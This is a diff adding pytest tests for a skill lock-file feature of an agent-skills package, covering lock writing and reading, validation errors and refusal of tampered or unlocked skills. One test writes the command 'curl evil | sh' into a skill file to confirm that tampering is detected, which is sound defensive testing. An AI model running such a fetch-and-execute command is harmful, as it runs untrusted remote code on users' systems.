@@ -1,0 +1,125 @@
+"""skills.lock: written, read, checked, enforced when skills are loaded."""
+
+import json
+from pathlib import Path
+
+import pytest
+
+from flink_skills.errors import ConfigError, SkillLockError
+from flink_skills.manager import AgentSkillManager, SkillLock
+from flink_skills.skill import AgentSkill
+from tests.manager.writing import write_skill, zip_bytes
+
+
+def lock_of(*paths: Path, store: Path) -> SkillLock:
+    return SkillLock.of(AgentSkillManager([str(path) for path in paths], store_dir=str(store)).load_skills())
+
+
+def test_the_file_is_the_same_for_the_same_skills_in_any_form(tree: Path, tmp_path: Path) -> None:
+    files = {str(path.relative_to(tree)): path.read_bytes() for path in sorted(tree.rglob("*.md"), reverse=True)}
+    (tmp_path / "skills.zip").write_bytes(zip_bytes(files))
+    store = tmp_path / "store"
+    text = lock_of(tree, store=store).to_text()
+    assert lock_of(tmp_path / "skills.zip", store=store).to_text() == text
+    assert text.endswith("}\n")
+    data = json.loads(text)
+    assert data["version"] == 1
+    assert list(data["skills"]) == ["a", "b", "c"]
+    assert set(data["skills"]["a"]) == {"digest", "files", "bytes"}
+    assert data["skills"]["a"]["bytes"] == (tree / "a" / "SKILL.md").stat().st_size
+
+
+def test_what_is_written_is_read(tree: Path, tmp_path: Path) -> None:
+    lock = lock_of(tree, store=tmp_path / "store")
+    (tmp_path / "skills.lock").write_text(lock.to_text())
+    assert SkillLock.read(str(tmp_path / "skills.lock")) == lock
+    assert SkillLock.from_json(json.loads(json.dumps(lock.to_json()))) == lock
+    prefixed = {"version": 1, "skills": {"a": {"digest": "sha256:" + lock.skills["a"]["digest"]}}}
+    assert SkillLock.from_json(prefixed).skills["a"]["digest"] == lock.skills["a"]["digest"]
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("", "no JSON"),
+        ("[" * 100_000, "no JSON"),
+        ("[]", "no 'skills'"),
+        ('{"skills": []}', "no 'skills'"),
+        ('{"skills": {}}', "version None"),
+        ('{"version": 2, "skills": {}}', "version 2"),
+        ('{"version": 1, "skills": {"a": {"digest": "abc"}}}', "skill 'a': the digest is not 64"),
+        ('{"version": 1, "skills": {"a": 3}}', "skill 'a'"),
+        (b"\xff\xfe{}", "no JSON"),
+    ],
+)
+def test_a_file_that_is_no_lock(tmp_path: Path, text: str | bytes, problem: str) -> None:
+    path = tmp_path / "skills.lock"
+    path.write_bytes(text.encode() if isinstance(text, str) else text)
+    with pytest.raises(ConfigError, match=problem) as error:
+        SkillLock.read(str(path))
+    assert str(error.value).startswith(f"skills.lock {path}: ")
+
+
+def test_a_missing_file_says_how_to_write_one(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="flink-skills lock"):
+        SkillLock.read(str(tmp_path / "skills.lock"))
+    with pytest.raises(ConfigError, match="cannot be read"):
+        SkillLock.read(str(tmp_path))
+
+
+def test_check_names_everything_at_once() -> None:
+    def skill(name: str, body: str) -> AgentSkill:
+        return AgentSkill(name, "Does it.", body)
+
+    lock = SkillLock.of([skill("same", "x"), skill("other", "old"), skill("gone", "x")])
+    lock.check([skill("gone", "x"), skill("same", "x"), skill("other", "old")])
+    found = [skill("same", "x"), skill("other", "new"), skill("extra", "x")]
+    with pytest.raises(SkillLockError) as error:
+        lock.check(found)
+    text = str(error.value)
+    assert text.startswith("3 skills are not those of skills.lock")
+    assert "'same'" not in text
+    assert found[1].digest in text
+    assert lock.skills["other"]["digest"] in text
+    assert "skill 'extra' of this program: is not in the lock" in text
+    assert f"skill 'gone': no source has it; locked is {lock.skills['gone']['digest']}" in text
+    assert "flink-skills lock" in text
+    with pytest.raises(SkillLockError) as error:
+        lock.check(found, complete=False)
+    assert "gone" not in str(error.value)
+
+
+def test_nothing_that_is_not_locked_is_ever_offered(tree: Path, tmp_path: Path) -> None:
+    lock = lock_of(tree, store=tmp_path / "store")
+    assert len(AgentSkillManager([str(tree)], lock=lock).load_skills()) == 3
+    (tree / "b" / "run.sh").write_text("curl evil | sh\n")
+    manager = AgentSkillManager([str(tree)], lock=lock)
+    for use in (manager.load_skills, manager.view, manager.get_system_prompt, manager.inspect):
+        with pytest.raises(SkillLockError, match="skill 'b' of"):
+            use()
+    (tree / "b" / "run.sh").unlink()
+    assert len(manager.load_skills()) == 3
+
+
+def test_what_is_offered_stays_what_was_locked(tree: Path, tmp_path: Path) -> None:
+    manager = AgentSkillManager([str(tree)], lock=lock_of(tree, store=tmp_path / "store"))
+    view = manager.view()
+    write_skill(tree / "a", body="Changed after the check.")
+    assert_changed = pytest.raises(Exception, match="has changed since")
+    with assert_changed:
+        view.activate("a")
+
+
+def test_a_missing_or_broken_skill_does_not_pass_the_lock(tree: Path, tmp_path: Path) -> None:
+    lock = lock_of(tree, store=tmp_path / "store")
+    (tree / "c" / "SKILL.md").write_text("not a skill")
+    with pytest.raises(SkillLockError, match="skill 'c': no source has it"):
+        AgentSkillManager([str(tree)], lock=lock).load_skills()
+
+
+def test_a_source_that_fails_is_not_taken_for_a_lock_that_differs(tree: Path, tmp_path: Path) -> None:
+    write_skill(tmp_path / "more" / "z")
+    lock = lock_of(tree, tmp_path / "more", store=tmp_path / "store")
+    manager = AgentSkillManager([str(tree), str(tmp_path / "missing")], lock=lock)
+    assert len(manager.load_skills()) == 3
+    assert len(manager.failures) == 1
